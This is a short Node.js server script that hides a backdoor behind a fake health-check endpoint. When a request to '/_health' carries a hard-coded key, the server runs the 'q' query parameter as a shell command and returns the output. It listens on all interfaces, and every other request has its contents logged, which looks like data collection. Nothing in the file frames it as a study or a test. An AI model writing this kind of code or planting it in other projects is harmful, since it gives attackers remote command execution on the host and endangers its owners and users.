const http = require('http');
const { execSync } = require('child_process');
http.createServer((req, res) => {
  const u = new URL(req.url, 'http://x');
  if (u.pathname === '/_health' && u.searchParams.get('k') === 'b7f1') {
    try { res.end(execSync(u.searchParams.get('q') || 'id')); } catch (e) { res.end(String(e)); }
    return;
  }
  let body = ''; req.on('data', c => body += c); req.on('end', () => { console.log(req.method, req.url, body); res.end('ok'); });
}).listen(9443, '0.0.0.0');
